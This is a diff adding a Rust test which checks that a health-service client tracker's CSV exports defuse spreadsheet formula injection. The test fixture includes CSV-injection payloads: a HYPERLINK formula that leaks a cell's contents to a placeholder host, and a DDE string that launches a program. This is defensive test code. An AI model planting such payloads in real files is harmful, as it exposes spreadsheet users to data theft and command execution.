@@ -1277,3 +1277,151 @@ fn the_report_and_export_commands() {
     assert!(!dir.join("bad.json").exists() && !dir.join("bad.txt").exists());
     assert!(!std::fs::read_to_string(&list).unwrap().contains("nick"));
 }
+
+/// Text that Excel or LibreOffice would run as a formula, and the cell every
+/// CSV file must hold instead: the same text after a `'`.
+const FORMULAS: [(&str, &str); 6] = [
+    (
+        "=HYPERLINK(\"http://x.example/?d=\"&A1,\"open\")",
+        "'=HYPERLINK(\"http://x.example/?d=\"&A1,\"open\")",
+    ),
+    (
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+    ),
+    ("+1+2", "'+1+2"),
+    ("-A1", "'-A1"),
+    ("\tTAB", "'\tTAB"),
+    ("\rCR", "'\rCR"),
+];
+
+/// Per formula `i`: client `F-i` named and nicknamed with it, on methadone
+/// and detained since 2025-03-01 at a location of that name (so the
+/// worklist lists it); and client `-A1`, whose code looks like a formula.
+/// (The store trims location names, so the last two are `TAB` and `CR`.)
+fn formula_fixture(store: &mut Store) {
+    for (i, (text, _)) in FORMULAS.iter().enumerate() {
+        let mut c = Client::with_code(&format!("F-{i}"));
+        c.nickname = Some((*text).to_owned());
+        c.name = Some((*text).to_owned());
+        let client = store.create(c).unwrap().id();
+        let place = location(store, text, Availability::No, Availability::No);
+        enroll(store, client, Service::Methadone, "2025-01-01", None);
+        stay(store, client, place, FROM, None);
+    }
+    let dash = person(store, "-A1", Sex::Male, Some(1990));
+    contact(store, dash, "2024-10-01", |_| {});
+}
+
+/// The CSV cell of formula `i`'s location: the store trims names.
+fn location_cell(i: usize) -> &'static str {
+    match FORMULAS[i] {
+        ("\tTAB", _) => "TAB",
+        ("\rCR", _) => "CR",
+        (_, safe) => safe,
+    }
+}
+
+fn csv_rows(path: &Path) -> Vec<BTreeMap<String, String>> {
+    let mut r = csv::Reader::from_path(path).unwrap();
+    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_owned).collect();
+    r.records()
+        .map(|row| {
+            header
+                .iter()
+                .cloned()
+                .zip(row.unwrap().iter().map(str::to_owned))
+                .collect()
+        })
+        .collect()
+}
+
+#[test]
+fn every_csv_file_writes_formula_like_text_as_text() {
+    let (db, mut store) = fresh();
+    formula_fixture(&mut store);
+    let dir = db.dir.path();
+
+    // The line list, identifiable (names and nicknames are in it).
+    let path = dir.join("clients.csv");
+    export(&mut store, true, &path);
+    let rows = csv_rows(&path);
+    for (i, (_, safe)) in FORMULAS.iter().enumerate() {
+        let row = rows.iter().find(|r| r["code"] == format!("F-{i}")).unwrap();
+        assert_eq!(row["nickname"], *safe);
+        assert_eq!(row["name"], *safe);
+        assert_eq!(row["detention_location"], location_cell(i));
+        assert_eq!(row["contacts"], "0", "numbers stay numbers");
+    }
+    let dash = rows.iter().find(|r| r["code"] == "'-A1").unwrap();
+    assert_eq!(dash["contacts"], "1");
+    assert_eq!(dash["nickname"], "nick -A1");
+    // The same export as XLSX holds the text as it is (cells there are typed).
+    let xlsx = dir.join("clients.xlsx");
+    export(&mut store, true, &xlsx);
+    let mut wb = open_workbook_auto(&xlsx).unwrap();
+    let range = wb.worksheet_range("Clients").unwrap();
+    let texts: Vec<String> = range.rows().map(|r| cell_text(&r[1])).collect();
+    assert!(texts.iter().any(|t| t == FORMULAS[0].0), "{texts:?}");
+
+    // The worklist: client codes and location names.
+    let entries = store.worklist(day(TO), None).unwrap();
+    let path = dir.join("worklist.csv");
+    tether::reports::worklist::write(&path, day(TO), &entries).unwrap();
+    let rows = csv_rows(&path);
+    let dash = rows.iter().find(|r| r["client_code"] == "'-A1").unwrap();
+    assert_eq!(dash["kind"], "lost_to_follow_up");
+    for i in 0..FORMULAS.len() {
+        let row = rows
+            .iter()
+            .find(|r| r["client_code"] == format!("F-{i}") && r["kind"] == "at_risk_detained")
+            .unwrap();
+        assert_eq!(row["location"], location_cell(i));
+        assert_eq!(row["days"], "31", "days detained, a number as it is");
+        assert_eq!(row["day"], TO);
+    }
+
+    // The period report: locations where clients are detained.
+    let report = store.period_report(day(FROM), day(TO)).unwrap();
+    let path = dir.join("report.csv");
+    store.save_report(&report, &path, None).unwrap();
+    let rows = csv_rows(&path);
+    for i in 0..FORMULAS.len() {
+        let safe = location_cell(i);
+        let row = rows
+            .iter()
+            .find(|r| r["indicator"] == "detained_at_end_by_location" && r["value"] == safe)
+            .unwrap_or_else(|| panic!("{safe:?} in {rows:#?}"));
+        assert_eq!(row["count"], "1");
+    }
+    assert!(
+        rows.iter()
+            .all(|r| !r["value"].starts_with(['=', '+', '-', '@', '\t', '\r']))
+    );
+
+    // Leading tabs and carriage returns, which the store keeps in names but
+    // not in the worklist's fields, straight through the worklist's writer.
+    let mut entry = entries[0].clone();
+    entry.client_code = "\tTAB".into();
+    entry.reason = "\rCR".into();
+    entry.location = Some("=1+1".into());
+    tether::reports::worklist::write(&path, day(TO), &[entry]).unwrap();
+    let row = &csv_rows(&path)[0];
+    assert_eq!(
+        (
+            row["client_code"].as_str(),
+            row["reason"].as_str(),
+            row["location"].as_str()
+        ),
+        ("'\tTAB", "'\rCR", "'=1+1")
+    );
+
+    // The import template: plain column names, unchanged.
+    assert_eq!(
+        tether::import::template_csv(tether::import::ImportKind::Clients),
+        "code,nickname,sex,birth_year,phone,province,district,key_populations,hiv_status,assigned_worker,registered_on\n"
+    );
+    assert_eq!(output::csv_text("12"), "12");
+    assert_eq!(output::csv_text("ស=ក"), "ស=ក");
+    assert_eq!(output::csv_text(""), "");
+}
